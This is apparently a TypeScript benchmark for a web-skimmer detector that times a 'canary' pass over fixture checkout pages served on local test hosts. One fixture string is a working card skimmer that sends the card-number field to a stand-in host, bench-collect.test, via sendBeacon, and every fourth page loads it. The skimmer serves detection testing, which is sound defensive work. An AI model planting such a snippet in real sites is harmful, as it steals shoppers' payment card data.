// Behavioural-pass benchmark: the time the canary pass adds per payment page, against a plain capture in the same run.

import { judgeCanary } from '../src/detect/canary.js';
import { launchBrowser } from '../crawler/launch-browser.js';
import { CHECKOUT_FORM } from '../test/fixtures/canary-shops.js';
import { startFixtureSite } from '../test/fixtures/fixture-site.js';
import { RUNNING_AS_ROOT, testBrowserPath } from '../test/fixtures/browser.js';

const PAGES = Number(process.env.BENCH_PAGES ?? 20);
const ROUNDS = 2;

async function main(): Promise<void> {
  const site = await startFixtureSite();
  const urls: string[] = [];
  for (let i = 0; i < PAGES; i++) {
    const host = `pay${i}.test`;
    // A checkout with first-party, third-party and inline scripts; every fourth page has a skimmer that must be caught.
    site.set(host, '/checkout', `<!doctype html><html><head><script src="/js/app.js"></script><script src="http://cdn.test:{{PORT}}/lib-${i % 5}.js"></script></head><body>
${CHECKOUT_FORM}<script>window.dataLayer = [{ page: 'checkout', n: ${i} }];</script>${i % 4 === 0 ? '<script src="/js/skim.js"></script>' : ''}</body></html>`);
    site.set(host, '/js/app.js', `document.getElementById('payment-form').addEventListener('submit', function (e) { e.target.classList.add('busy'); });`);
    site.set(host, '/js/skim.js', `document.getElementById('card-number').addEventListener('change', function (e) { navigator.sendBeacon('http://bench-collect.test:{{PORT}}/c', e.target.value); });`);
    urls.push(site.url(host, '/checkout'));
  }
  for (let k = 0; k < 5; k++) site.set('cdn.test', `/lib-${k}.js`, `window.lib${k} = { v: ${k} };`);
  site.set('bench-collect.test', '/c', 'ok');

  const browser = await launchBrowser({ executablePath: testBrowserPath(), args: [], resolve: { '*.test': '127.0.0.1' }, runningAsRoot: RUNNING_AS_ROOT });
  const base = { pageTimeoutMs: 30_000, settleMs: 200, maxScriptsPerPage: 500, maxBodyBytes: 5 * 1024 * 1024 };
  const timed = async (canary: boolean) => {
    const started = performance.now();
    let caught = 0;
    for (const url of urls) {
      const capture = await browser.capture({ target: 'bench', url, profile: 'desktop' }, { ...base, canary: { enabled: canary } });
      if (!capture.outcome.ok) throw new Error(`bench capture failed: ${JSON.stringify(capture.outcome)}`);
      caught += capture.canary ? judgeCanary(capture.canary, capture.finalUrl ?? url, []).findings.length : 0;
    }
    return { ms: performance.now() - started, caught };
  };
  console.log(`behavioural pass benchmark: ${PAGES} payment pages (card, name, expiry, CVC, email fields), Chromium ${await browser.version()}`);
  const plain: number[] = [];
  const withCanary: number[] = [];
  let caught = 0;
  for (let round = 0; round < ROUNDS; round++) {
    plain.push((await timed(false)).ms);
    const run = await timed(true);
    withCanary.push(run.ms);
    caught = run.caught;
  }
  const perPage = (xs: number[]) => Math.min(...xs) / PAGES;
  console.log(`plain capture: ${perPage(plain).toFixed(0)} ms per page (best of ${ROUNDS})`);
  console.log(`capture with the canary pass: ${perPage(withCanary).toFixed(0)} ms per page (best of ${ROUNDS}); skimmers caught: ${caught} of ${Math.ceil(PAGES / 4)}`);
  console.log(`extra time per payment page: ${(perPage(withCanary) - perPage(plain)).toFixed(0)} ms (target < 2000 ms, the staged-data page included)`);
  await browser.close();
  await site.close();
}

await main();
